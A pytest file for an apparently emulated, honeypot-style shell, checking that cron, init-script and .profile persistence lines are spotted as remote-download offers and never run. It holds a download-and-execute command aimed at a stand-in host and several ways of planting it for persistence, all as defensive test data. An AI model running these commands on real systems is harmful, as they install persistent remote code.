# SPDX-License-Identifier: Apache-2.0
"""What is left to be run later is looked at now, and leaves no trace."""

from __future__ import annotations

import pytest

from mead.shell import Offer, Ran, Shell
from mead.shell.scheduled import jobs_of

JOB = "wget -q -O- http://192.0.2.1/c.sh | sh"


def offers(shell: Shell, line: str) -> list[str]:
    return [effect.url for effect in shell.run(line.encode()).effects if isinstance(effect, Offer)]


@pytest.mark.parametrize(
    "line",
    [
        f"echo '*/5 * * * * {JOB} >/dev/null 2>&1' | crontab -",
        f"(crontab -l 2>/dev/null; echo '@reboot {JOB}') | crontab -",
        f"echo '* * * * * {JOB}' > /var/spool/cron/crontabs/root",
        f"echo '0 4 * * 1-5 root {JOB}' >> /etc/crontab",
        f"printf '#!/bin/sh\\n{JOB}\\n' > /etc/init.d/S99x; chmod +x /etc/init.d/S99x",
        f"echo '{JOB}' >> /root/.profile",
    ],
)
def test_a_job_for_later_is_an_offer_now(shell: Shell, line: str) -> None:
    assert offers(shell, line) == ["http://192.0.2.1/c.sh"]
    reply = shell.deliver("http://192.0.2.1/c.sh", b"wget http://192.0.2.1/arm7 -O /tmp/a\n")
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/arm7"]
    assert shell.run(b"ls /tmp").output == b""


def test_what_was_offered_is_not_offered_again(shell: Shell) -> None:
    assert offers(shell, JOB) == ["http://192.0.2.1/c.sh"]
    assert offers(shell, f"echo '* * * * * {JOB}' | crontab -") == []


def test_only_the_line_itself_is_seen(shell: Shell) -> None:
    reply = shell.run(f"echo '* * * * * {JOB}' | crontab -".encode())
    assert reply.output == b""
    assert [effect.argv[0] for effect in reply.effects if isinstance(effect, Ran)] == ["echo", "crontab"]


def test_other_files_wait_until_they_are_run(shell: Shell) -> None:
    assert offers(shell, f"echo '{JOB}' > /tmp/x") == []
    assert offers(shell, "printf '\\177ELF\\0wget http://192.0.2.1/y' > /etc/init.d/x") == []


def test_a_table_of_jobs_is_read_as_cron_reads_it() -> None:
    text = "# c * * * * *\nMAILTO=x\n*/5 * * * * a b%in\n@daily c \\% d\n1 2 3 4 5\nnonsense\n"
    assert list(jobs_of(text, with_user=False)) == ["a b", "c % d"]
    assert list(jobs_of("1 2 3 4 5 root e f\n", with_user=True)) == ["e f"]
    assert len(list(jobs_of("* * * * * x\n" * 1_000, with_user=False))) == 32
